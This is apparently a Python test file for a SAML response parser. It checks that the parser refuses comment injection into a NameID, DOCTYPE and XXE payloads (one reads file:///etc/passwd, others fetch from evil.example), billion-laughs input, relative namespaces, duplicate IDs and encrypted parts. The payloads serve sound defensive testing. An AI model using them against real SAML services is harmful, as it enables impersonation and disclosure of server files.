"""What parsers disagree about: comments, CDATA, entities, encodings, parts that are encrypted by themselves."""

from collections.abc import Callable

import pytest
from lxml import etree

from app.protocols.saml.types import Check, Signed
from tests.protocols.saml import provider
from tests.protocols.saml.attacks import LAUGHS
from tests.protocols.saml.provider import assertion_in, read, response, saying

_ROOT = b"<samlp:Response"
_NAME = b"mira@example.com</saml:NameID>"


def _before_root(prolog: bytes) -> Callable[[bytes], bytes]:
    return lambda xml: prolog + xml


def _in_name(inserted: bytes) -> Callable[[bytes], bytes]:
    return lambda xml: xml.replace(_NAME, b"mira@example.com" + inserted + b"</saml:NameID>", 1)


@pytest.mark.parametrize(
    ("change", "check"),
    [
        (_in_name(b"<!---->.evil.example"), Check.NO_COMMENTS),
        (_in_name(b"<!-- -->"), Check.NO_COMMENTS),
        (_in_name(b"<?pi?>.evil.example"), Check.NO_COMMENTS),
        (_before_root(b'<?xml-stylesheet href="http://evil.example/"?>'), Check.NO_COMMENTS),
        (_before_root(b"<!DOCTYPE r>"), Check.NO_DOCUMENT_TYPE),
        (_before_root(b'<!DOCTYPE r SYSTEM "http://evil.example/r.dtd">'), Check.NO_DOCUMENT_TYPE),
        (_before_root(b'<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>'), Check.NO_DOCUMENT_TYPE),
        (_before_root(b'<!DOCTYPE r [<!ENTITY % e SYSTEM "http://evil.example/">%e;]>'), Check.NO_DOCUMENT_TYPE),
        (_before_root(LAUGHS), Check.NO_DOCUMENT_TYPE),
        (_before_root(b"<!DOCTYPE r [<!ATTLIST saml:Assertion ID ID #IMPLIED>]>"), Check.NO_DOCUMENT_TYPE),
        (_in_name(b"&undeclared;"), Check.WELL_FORMED),
        (lambda xml: xml.replace(_ROOT, b'<samlp:Response xmlns:r="relative"', 1), Check.ABSOLUTE_NAMESPACES),
        (lambda xml: xml.replace(_ROOT, b"<samlp:Response xmlns:r='./a:b'", 1), Check.ABSOLUTE_NAMESPACES),
        (lambda xml: xml.replace(_ROOT, b"<samlp:Response xmlns:r = '../up'", 1), Check.ABSOLUTE_NAMESPACES),
        (lambda xml: xml.replace(_ROOT, b'<samlp:Response xmlns:r="&#x72;:x"', 1), Check.ABSOLUTE_NAMESPACES),
        (lambda xml: xml.replace(b"</saml:Subject>", b'</saml:Subject><x xmlns="1"/>', 1), Check.ABSOLUTE_NAMESPACES),
        (lambda xml: xml.decode().encode("utf-16"), Check.ENCODING),
        (lambda xml: xml + xml, Check.WELL_FORMED),
        (lambda xml: xml + b"trailing", Check.WELL_FORMED),
        (lambda xml: xml.replace(_ROOT, b'<samlp:Response ID="_twice"', 1), Check.WELL_FORMED),
        (lambda xml: xml.replace(b"<saml:Subject>", b'<saml:Subject xml:id="_assertion-1">', 1), Check.UNIQUE_IDS),
        (lambda xml: xml.replace(b"<saml:Subject>", b'<saml:Subject Id="_assertion-1">', 1), Check.UNIQUE_IDS),
    ],
    ids=lambda value: str(value) if isinstance(value, Check) else None,
)
def test_what_parsers_read_differently_is_refused(change: Callable[[bytes], bytes], check: Check) -> None:
    good = response(signed=Signed.ASSERTION)
    outcome = read(change(good))
    assert outcome.assertion is None
    assert outcome.failed is not None
    assert outcome.failed.name is check
    assert read(good).assertion is not None


def test_a_comment_between_elements_changes_nothing() -> None:
    good = response(signed=Signed.ASSERTION)
    noted = good.replace(b"<saml:Conditions", b"<!-- made by an example --><saml:Conditions", 1)
    assert noted != good
    assert read(noted).assertion == read(good).assertion


def test_cdata_is_text_and_nothing_is_cut_off() -> None:
    cut = response(signed=Signed.ASSERTION).replace(_NAME, b"mira@<![CDATA[example.com]]></saml:NameID>", 1)
    found = read(cut).assertion
    assert found is not None
    assert found.subject is not None
    assert found.subject.value == "mira@example.com"


_HIDDEN = (
    "<xenc:EncryptedData xmlns:xenc='http://www.w3.org/2001/04/xmlenc#'><xenc:CipherData><xenc:CipherValue>AA=="
    "</xenc:CipherValue></xenc:CipherData></xenc:EncryptedData>"
)


@pytest.mark.parametrize(
    ("part", "plain", "hidden"),
    [
        (
            "EncryptedID",
            "<saml:NameID>mira@example.com</saml:NameID>",
            f"<saml:EncryptedID>{_HIDDEN}</saml:EncryptedID>",
        ),
        (
            "EncryptedAttribute",
            "<saml:AttributeStatement>",
            f"<saml:AttributeStatement><saml:EncryptedAttribute>{_HIDDEN}</saml:EncryptedAttribute>",
        ),
    ],
)
def test_encrypted_parts_are_refused_rather_than_overlooked(part: str, plain: str, hidden: str) -> None:
    text = provider.response_text(saying())
    assert plain in text
    valid, hiding = (etree.fromstring(said) for said in (text, text.replace(plain, hidden)))
    for root in (valid, hiding):
        provider.sign(assertion_in(root))
    assert read(etree.tostring(valid)).assertion is not None
    failed = read(etree.tostring(hiding)).failed
    assert failed is not None
    assert (failed.name, failed.found) == (Check.ENCRYPTED_PARTS, f"{part} by itself")
